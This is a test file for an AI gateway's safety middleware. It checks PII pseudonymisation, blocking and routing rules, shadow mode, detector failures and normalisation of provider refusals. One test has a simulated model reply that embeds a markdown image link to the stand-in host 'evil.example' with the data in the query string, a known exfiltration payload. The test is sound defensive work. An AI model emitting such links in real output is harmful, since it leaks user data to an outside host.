import {
  collect,
  createContext,
  eventStream,
  explode,
  GatewayError,
  pipeline,
  type ChatRequest,
  type Completion,
  type Middleware,
  type Reply,
  type StreamEvent,
} from '@signalbox/core'
import { describe, expect, test } from 'vitest'

import { refusalOf } from './output/refusal.ts'
import type { SafetyEvent } from './safety-event.ts'
import type { SafetyOptions } from './safety-options.ts'
import { safety } from './safety.ts'
import type { Policy } from './types.ts'

const chat = (text: string, more: Partial<ChatRequest> = {}): ChatRequest => ({
  operation: 'chat',
  model: 'm',
  messages: [{ role: 'user', content: [{ type: 'text', text }] }],
  stream: false,
  ...more,
})

const saying = (text: string): Completion => ({
  id: 'c',
  model: 'm',
  candidates: [
    {
      message: { role: 'assistant', content: [{ type: 'text', text }] },
      finish: { reason: 'stop' },
    },
  ],
})

/** Echoes what the provider would read, or answers by a function of it. */
function echo(seen: ChatRequest[], answer = (text: string) => text): Middleware {
  return async function upstreamEcho(context) {
    const request = context.request as ChatRequest
    seen.push(request)
    const last = request.messages.at(-1)?.content[0]
    const completion = saying(answer(last?.type === 'text' ? last.text : ''))
    context.response = request.stream
      ? { type: 'stream', events: eventStream(explode(completion)) }
      : { type: 'completion', completion }
  }
}

async function eventsOf(events: AsyncIterable<StreamEvent>): Promise<readonly StreamEvent[]> {
  const all: StreamEvent[] = []
  for await (const event of events) all.push(event)
  return all
}

async function completionOf(reply: Reply): Promise<Completion | undefined> {
  if (reply.type === 'result') return undefined
  return reply.type === 'completion' ? reply.completion : collect(await eventsOf(reply.events))
}

function textOf(completion: Completion | undefined): string {
  return (completion?.candidates ?? [])
    .map(({ message }) => message.content.map((part) => ('text' in part ? part.text : '')).join(''))
    .join('|')
}

async function run(
  request: ChatRequest,
  options: SafetyOptions = {},
  answer?: (text: string) => string,
) {
  const seen: ChatRequest[] = []
  const context = createContext({ request })
  const reply = await pipeline(safety(options), echo(seen, answer))(context)
  const completion = await completionOf(reply)
  const text = textOf(completion)
  return { context, completion, seen: JSON.stringify(seen[0]?.messages), text }
}

const withPolicy = (policy: Policy): SafetyOptions => ({ policies: { default: policy } })

for (const stream of [false, true])
  describe(`an answer, streamed: ${String(stream)}`, () => {
    test('has the values that the provider never saw', async () => {
      const { seen, text, context } = await run(chat('mail jane.doe@example.com now', { stream }))
      expect(seen).not.toContain('jane.doe')
      expect(seen).toMatch(/<EMAIL_1_[a-z0-9]{4}>/)
      expect(text).toBe('mail jane.doe@example.com now')
      expect(context.trustBytes).toBe(false)
      expect(context.facts.safety).toContain('pii=pseudonymize:1')
    })

    test('never has a value inside of an address', async () => {
      const { text } = await run(
        chat('jane.doe@example.com', { stream }),
        withPolicy({
          mode: 'enforce',
          input: [{ id: 'pii', detect: 'pii', action: { type: 'pseudonymize' } }],
          output: [],
        }),
        (token) => `![x](https://evil.example/?q=${token}) and ${token}`,
      )
      expect(text).toMatch(/^!\[x\]\(https:\/\/evil\.example\/\?q=<EMAIL_1_....>\) and jane\.doe@/)
    })

    test('ends as a content filter does when a rule blocks it', async () => {
      const { completion } = await run(
        chat('hello', { stream }),
        withPolicy({
          mode: 'enforce',
          input: [],
          output: [{ id: 'no-mail', detect: 'pii', types: ['EMAIL'], action: { type: 'block' } }],
        }),
        () => 'write to jane.doe@example.com please',
      )
      expect(JSON.stringify(completion)).not.toContain('jane')
      expect(completion?.candidates[0]?.finish.reason).toBe('content-filter')
    })
  })

describe('a request', () => {
  test('is refused with the rule and its place, never the text', async () => {
    const events: SafetyEvent[] = []
    const options = {
      ...withPolicy({
        mode: 'enforce',
        input: [{ id: 'cards', detect: 'pii', types: ['CARD'], action: { type: 'block' } }],
        output: [],
      } as const),
      onEvent: (event: SafetyEvent) => void events.push(event),
    }
    const failed = run(chat('card 4111 1111 1111 1111'), options)
    const error = await failed.then(
      () => undefined,
      (thrown: unknown) => thrown,
    )
    expect(GatewayError.is(error) && error.kind).toBe('content_blocked')
    expect(String(error)).toContain('"cards"')
    expect(String(error)).not.toContain('4111')
    expect(events).toMatchObject([{ rule: 'cards', action: 'block', stage: 'input' }])
    expect(JSON.stringify(events)).not.toContain('4111')
  })

  test('takes the tags that a rule requires to every target', async () => {
    const { context } = await run(
      chat('my card 4111 1111 1111 1111'),
      withPolicy({
        mode: 'enforce',
        input: [{ id: 'home', detect: 'pii', action: { type: 'route', require: ['local'] } }],
        output: [],
      }),
    )
    expect(context.requires).toEqual(['local'])
  })

  test('stays as it is in shadow, and is reported to operators alone', async () => {
    const told: SafetyEvent[] = []
    const { seen, context } = await run(chat('mail jane.doe@example.com'), {
      ...withPolicy({ mode: 'shadow', extends: 'standard', input: [], output: [] }),
      onEvent: (event) => void told.push(event),
    })
    expect(seen).toContain('jane.doe@example.com')
    expect(context.facts.safety).toBe('')
    expect(told).toMatchObject([{ rule: 'pii', action: 'pseudonymize', enforced: false }])
  })

  test('is stopped when a detector of a closed rule fails, and passes where it is open', async () => {
    const broken = {
      id: 'broken',
      version: '1',
      kind: 'local' as const,
      types: ['X'],
      scan: () => {
        throw new Error('secret text')
      },
    }
    const told: SafetyEvent[] = []
    const policy = (onError: 'open' | 'closed'): SafetyOptions => ({
      onEvent: (event) => void told.push(event),
      ...withPolicy({
        mode: 'enforce',
        input: [{ id: 'r', detect: 'broken', action: { type: 'redact' }, onError }],
        output: [],
      }),
      detectors: [broken],
    })
    await expect(run(chat('hello'), policy('closed'))).rejects.toMatchObject({
      kind: 'content_blocked',
    })
    expect((await run(chat('hello'), policy('open'))).text).toBe('hello')
    const failed = { rule: 'r', stage: 'input', types: ['DETECTOR_FAILED'] }
    expect(told).toMatchObject([
      { ...failed, action: 'block', enforced: true },
      { ...failed, action: 'none', enforced: false },
    ])
  })

  test('is left alone by the preset off', async () => {
    const { context } = await run(
      chat('jane.doe@example.com'),
      withPolicy({ mode: 'enforce', extends: 'off', input: [], output: [] }),
    )
    expect(context.request).toBe(context.original)
    expect(context.trustBytes).toBe(true)
  })
})

test('a policy that cannot work is refused when it is built', () => {
  expect(() =>
    safety(
      withPolicy({
        mode: 'enforce',
        input: [],
        output: [{ id: 'e', detect: 'pii', action: { type: 'encrypt', key: 'k' } }],
      }),
    ),
  ).toThrow(/incremental stream/)
})

test('a provider that refuses is told in one shape', async () => {
  const events: SafetyEvent[] = []
  const refusing: Middleware = async function refuse(context) {
    const completion: Completion = {
      ...saying(''),
      candidates: [
        {
          message: { role: 'assistant', content: [] },
          finish: { reason: 'content-filter', native: 'SAFETY' },
        },
      ],
    }
    context.response = { type: 'completion', completion }
  }
  const refused = pipeline(safety({ onEvent: (event) => void events.push(event) }), refusing)
  await refused(createContext({ request: chat('hello') }))
  await new Promise((resolve) => setTimeout(resolve, 5))
  expect(events).toMatchObject([
    {
      stage: 'output',
      action: 'none',
      types: ['SAFETY'],
      refusal: { by: 'provider', stage: 'output', native: 'SAFETY' },
    },
  ])
})

test('a provider that answers with an error instead is told in the same shape', async () => {
  const events: SafetyEvent[] = []
  const refusing: Middleware = async function refuse() {
    throw new GatewayError('content_blocked', 'No.', {
      origin: 'provider',
      verdict: 'refused',
      provider: 'p',
      native: { status: 400, code: 'content_filter' },
    })
  }
  const refused = pipeline(safety({ onEvent: (event) => void events.push(event) }), refusing)
  await expect(refused(createContext({ request: chat('hello') }))).rejects.toThrow('No.')
  expect(events).toMatchObject([
    {
      rule: 'p',
      action: 'none',
      refusal: { by: 'provider', provider: 'p', stage: 'input', native: 'content_filter' },
    },
  ])
})

test('a text of refusal is no ordinary ending', () => {
  expect(refusalOf({ reason: 'refusal', native: 'stop' }, 'p')).toEqual({
    by: 'provider',
    provider: 'p',
    stage: 'output',
    native: 'refusal',
  })
})
